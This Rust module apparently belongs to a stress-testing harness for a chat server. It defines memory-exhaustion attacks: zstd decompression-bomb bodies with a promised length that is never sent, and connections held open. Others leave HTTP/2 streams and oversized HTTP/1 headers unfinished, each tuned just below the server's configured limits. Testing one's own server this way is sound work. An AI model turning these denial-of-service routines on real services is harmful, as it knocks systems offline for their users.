//! Memory: whatever a client can make grow, held open.

use super::CHAT;
use crate::attack::Attack;
use crate::attack::Hostile;
use crate::attack::Target;
use crate::bombs::open_zstd;
use crate::wire;

/// Run-length blocks that decode to 1 MiB.
const BLOCKS: usize = 8;

/// Streams that each connection opens, below the default of `observe.max_streams`.
const STREAMS: usize = 1_000;

/// A body that is announced and never comes.
const ANNOUNCED: usize = 1 << 20;

pub(super) fn attacks() -> Vec<Attack> {
    vec![
        Attack::new("zstd-declared", 30, |target| async move { bodies(target, 30, 1).await }),
        Attack::new("zstd-held", 174, |target| async move { bodies(target, 174, BLOCKS).await }),
        Attack::new("zstd-held-h2", 1, zstd_streams),
        Attack::new("h2-open-streams", 80, |target| async move {
            target.on_all(80, |stream, _| open_streams(stream, STREAMS)).await
        }),
        Attack::new("h1-open-headers", 200, |target| async move { target.on_all(200, |stream, _| headers(stream)).await }),
    ]
}

/// One open body per connection.
async fn bodies(target: Target, count: usize, blocks: usize) -> crate::Outcome<()> {
    let body = open_zstd(blocks);
    let head = format!("POST {CHAT} HTTP/1.1\r\nhost: x\r\ncontent-encoding: zstd\r\ncontent-length: {ANNOUNCED}\r\n\r\n");
    let request = [head.as_bytes(), &body].concat();
    target
        .on_all(count, |mut stream, _| {
            let request = request.clone();
            async move {
                stream.write(&request).await?;
                stream.hold();
                Ok(())
            }
        })
        .await
}

/// The same on the streams of one connection.
async fn zstd_streams(target: Target) -> crate::Outcome<()> {
    let mut stream = target.connect().await?;
    stream.write(&wire::opening(&[])).await?;
    let body = open_zstd(BLOCKS);
    for at in 0..174 {
        let block = wire::block(at, &[(":path", CHAT), ("content-encoding", "zstd")]);
        stream.write(&wire::frame(wire::HEADERS, wire::END_HEADERS, wire::stream(at), &block)).await?;
        stream.write(&wire::frame(wire::DATA, 0, wire::stream(at), &body)).await?;
    }
    stream.hold();
    Ok(())
}

/// Requests without an end on one connection.
pub(super) async fn open_streams(mut stream: Hostile, count: usize) -> crate::Outcome<()> {
    let mut bytes = wire::opening(&[]);
    for at in 0..count {
        let block = wire::block(at, &[(":path", CHAT)]);
        bytes.extend(wire::frame(wire::HEADERS, wire::END_HEADERS, wire::stream(at), &block));
    }
    stream.write(&bytes).await?;
    stream.hold();
    Ok(())
}

/// Headers of a request up to just below the default of `observe.head_bytes`, without an end.
async fn headers(mut stream: Hostile) -> crate::Outcome<()> {
    let bytes = format!("POST {CHAT} HTTP/1.1\r\nx: {}", "x".repeat(65_000));
    stream.write(bytes.as_bytes()).await?;
    stream.hold();
    Ok(())
}
